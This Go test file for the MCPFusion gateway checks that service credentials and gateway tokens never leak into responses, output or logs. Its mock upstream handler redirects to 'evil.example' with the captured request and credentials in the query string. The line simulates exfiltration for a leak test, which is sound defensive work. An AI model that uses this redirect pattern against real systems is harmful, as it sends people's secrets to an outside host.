package testgateway_test

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/PivotLLM/MCPFusion/internal/testgateway"
)

const canary = "c4nary/of+a=service&x"

// services has one service for each kind of credential, and one whose
// credential cannot be sent.
const services = `{"services": {
  "bearer": {"name": "S", "baseURL": "${API}", "auth": {"type": "bearer", "config": {"token": "${KEY}"}}, "endpoints": ${ENDPOINTS}},
  "header": {"name": "S", "baseURL": "${API}", "auth": {"type": "api_key", "config": {"key": "${KEY}", "header": "X-Key"}}, "endpoints": ${ENDPOINTS}},
  "query": {"name": "S", "baseURL": "${API}", "auth": {"type": "api_key", "config": {"key": "${KEY}", "queryParam": "k"}}, "endpoints": ${ENDPOINTS}},
  "basic": {"name": "S", "baseURL": "${API}", "auth": {"type": "basic", "config": {"username": "anna", "password": "${KEY}"}}, "endpoints": ${ENDPOINTS}},
  "broken": {"name": "S", "baseURL": "${API}", "auth": {"type": "bearer", "config": {"token": "${KEY}${LINE}"}}, "endpoints": ${ENDPOINTS}},
  "gone": {"name": "S", "baseURL": "http://127.0.0.1:1", "auth": {"type": "api_key", "config": {"key": "${KEY}", "queryParam": "k"}}, "endpoints": ${ENDPOINTS}}
}}`

var ways = []string{"json", "error", "away", "reset", "garbage"}

// telltale answers with the request that it got, credential and all.
func telltale(w http.ResponseWriter, r *http.Request) {
	_, password, _ := r.BasicAuth()
	got := fmt.Sprint(r.Header, r.URL, password, url.QueryEscape(r.Header.Get("X-Key")))
	switch r.URL.Path {
	case "/json":
		fmt.Fprintf(w, "%q", strings.ToValidUTF8(got, ""))
	case "/error":
		http.Error(w, got, http.StatusBadRequest)
	case "/away":
		http.Redirect(w, r, "http://evil.example/?"+url.QueryEscape(got), http.StatusFound)
	case "/garbage":
		_, _ = io.WriteString(w, "{"+got)
	default:
		panic(http.ErrAbortHandler) // closes the connection
	}
}

// caller calls a running gateway and collects all that it says.
type caller struct {
	t   *testing.T
	url string
	out strings.Builder
}

func (c *caller) send(method, path, body string, header http.Header) {
	c.t.Helper()
	request, err := http.NewRequest(method, c.url+path, strings.NewReader(body))
	require.NoError(c.t, err)
	request.Header = header.Clone()
	request.Header.Set("Content-Type", "application/json")
	response, err := http.DefaultTransport.RoundTrip(request)
	require.NoError(c.t, err)
	defer response.Body.Close()
	content, err := io.ReadAll(response.Body)
	require.NoError(c.t, err)
	require.NoError(c.t, response.Header.Write(&c.out))
	c.out.Write(content)
}

// misuse sends a token where it should be and where it should not.
func (c *caller) misuse(token string) {
	c.t.Helper()
	header := http.Header{"Authorization": {"Bearer " + token}}
	for _, service := range []string{"bearer", "header", "query", "basic", "broken", "gone"} {
		for _, way := range ways {
			c.send("GET", "/api/"+service+"/"+way, "", header)
			c.send("POST", "/mcp", fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"%s_%s"}}`, service, way), header)
			c.send("GET", "/api/"+service+"/"+way, "", http.Header{})
		}
	}
	c.send("GET", "/"+token, "", header)
	c.send("GET", "/api/"+token+"?t="+token, "", header)
	c.send("POST", "/mcp", token, header)
	c.send("POST", "/mcp", `{"jsonrpc":"2.0","method":"`+token+`"}`, header)
	c.send("GET", "/", "", http.Header{"Authorization": {"Basic " + token}})
	c.send("GET", "/", "", http.Header{"Authorization": {"Bearer " + token + "0"}})
	c.send("GET", "/", "", http.Header{"Authorization": {token}, "User-Agent": {token}, "Origin": {"http://" + token}})
}

// TestTheProgramTellsNoSecret runs the server with all its outputs at their
// most talkative, and looks for API tokens, the local one too, and for the
// credentials of services.
func TestTheProgramTellsNoSecret(t *testing.T) {
	api := httptest.NewServer(http.HandlerFunc(telltale))
	t.Cleanup(api.Close)
	for _, format := range []string{"text", "json"} {
		data, logFile := t.TempDir(), filepath.Join(t.TempDir(), "log")
		tokens := []string{testgateway.AddToken(t, data, "anna"), testgateway.AddToken(t, data, "bert")}
		gateway := testgateway.Start(t, testgateway.Config{
			Services: strings.ReplaceAll(services, "${ENDPOINTS}", endpoints()), DataDir: data,
			Env:   []string{"API=" + api.URL, "KEY=" + canary, "LINE=\n", "MCP_FUSION_LOGFILE=" + logFile},
			Flags: []string{"-debug", "-log-format", format, "-no-auth"},
		})
		local, err := os.ReadFile(filepath.Join(data, "local.token"))
		require.NoError(t, err)
		tokens = append(tokens, strings.TrimSpace(string(local)))
		c := &caller{t: t, url: gateway.URL}
		for _, token := range tokens {
			c.misuse(token)
		}
		gateway.Stop(t)
		logged, err := os.ReadFile(logFile)
		require.NoError(t, err)
		require.Contains(t, string(logged), "request")
		require.Contains(t, c.out.String(), "[redacted]", "the credentials were sent")
		for where, seen := range map[string]string{"answers": c.out.String(), "stdout": gateway.Out.String(), "stderr": gateway.Log.String(), "log file": string(logged)} {
			requireNoSecret(t, where+", "+format, seen, tokens)
		}
	}
}

func endpoints() string {
	var list []string
	for _, way := range ways {
		list = append(list, fmt.Sprintf(`{"id":%q,"name":"N","method":"GET","path":"/%s"}`, way, way))
	}
	return "[" + strings.Join(list, ",") + "]"
}

func requireNoSecret(t *testing.T, where, seen string, tokens []string) {
	t.Helper()
	basic := base64.StdEncoding.EncodeToString([]byte("anna:" + canary))
	for _, secret := range []string{"c4nary", url.QueryEscape(canary), basic, basic[:12]} {
		require.NotContains(t, seen, secret, where)
	}
	for _, token := range tokens {
		for i := 0; i+12 <= len(token); i++ { // its first 8 digits name it
			require.NotContains(t, seen, token[i:i+12], where)
		}
	}
}
